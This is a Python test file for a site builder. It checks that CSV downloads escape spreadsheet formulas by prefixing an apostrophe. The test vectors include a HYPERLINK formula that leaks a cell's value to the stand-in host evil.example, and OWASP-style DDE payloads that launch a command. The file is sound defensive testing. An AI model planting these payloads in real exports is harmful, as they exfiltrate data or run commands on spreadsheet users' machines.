"""CSV formula injection: no cell of the CSV downloads is a formula in a spreadsheet.

The rule (OWASP, "CSV Injection"): a cell that starts with = + - @, a tab or a carriage
return gets a leading apostrophe. Checked cell by cell on every CSV of the real build, and
on the real archive with attack vectors planted in its text fields; archive.json keeps the
exact text.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from builder.index import build_archive
from builder.model import Passage
from builder.render.data_export import FORMULA_STARTS, render_data, spreadsheet_safe

if TYPE_CHECKING:
    from builder.build import BuildReport

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"More on Aleppo")'
# The OWASP examples, and each formula start on its own.
VECTORS = (
    HYPERLINK,
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode(), newline="")) for cell in row]


def formula_cells(data: bytes) -> list[str]:
    return [cell for cell in cells(data) if cell.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("vector", VECTORS)
def test_a_formula_start_gets_an_apostrophe(vector: str) -> None:
    assert spreadsheet_safe(vector) == "'" + vector


@pytest.mark.parametrize("text", ["", "52 percent", "'quoted", "Lavrov said: =", " =1+1"])
def test_other_text_is_left_as_it_is(text: str) -> None:
    assert spreadsheet_safe(text) == text


def test_real_csvs_have_no_formula_cell(built_site: Path) -> None:
    tables = sorted((built_site / "data").glob("*.csv"))
    assert {table.name for table in tables} >= {"events.csv", "figures.csv", "quotes.csv"}
    for table in tables:
        assert len(cells(table.read_bytes())) > 100
        assert formula_cells(table.read_bytes()) == [], table.name


def prefixed(passage: Passage, vector: str) -> Passage:
    return dataclasses.replace(passage, text=vector + passage.text)


def test_vectors_planted_in_the_real_archive_are_neutralised(build_report: BuildReport) -> None:
    """Every text field of the real content that reaches a CSV, with a vector in front."""
    real = build_report.archive
    articles = []
    for number, article in enumerate(real.articles):
        vector = VECTORS[number % len(VECTORS)]
        events = tuple(
            dataclasses.replace(e, title=vector, place=vector, passage=prefixed(e.passage, vector))
            for e in article.events
        )
        figures = tuple(
            dataclasses.replace(f, note=vector, passage=prefixed(f.passage, vector))
            for f in article.figures
        )
        articles.append(
            dataclasses.replace(
                article, title=vector, outlet=vector, events=events, figures=figures
            )
        )
    metrics = [dataclasses.replace(m, label=HYPERLINK) for m in real.metrics.values()]
    actors = [dataclasses.replace(a, name=HYPERLINK) for a in real.actors.values()]
    archive = build_archive(real.site, metrics, actors, articles)
    data = render_data(archive)

    for table in ("data/figures.csv", "data/events.csv"):
        assert formula_cells(data[table]) == []
        planted_cells = [cell for cell in cells(data[table]) if cell.startswith("'")]
        assert len(planted_cells) > 50
        assert {cell[1:] for cell in planted_cells} >= {HYPERLINK}
    document = json.loads(data["data/archive.json"])
    assert {a["title"] for a in document["articles"]} == set(VECTORS[: len(real.articles)])
    assert all(f["passage"]["text"].startswith(VECTORS) for f in document["figures"])


def test_the_rule_is_documented_on_the_data_page_and_in_the_readme(
    built_site: Path, project_root: Path
) -> None:
    page = " ".join((built_site / "data" / "index.html").read_text("utf-8").split())
    assert "starts with an apostrophe (<code>'</code>) instead" in page
    readme = " ".join((project_root / "README.md").read_text("utf-8").split())
    assert "gets a leading apostrophe (`'`); `archive.json` keeps the exact text" in readme
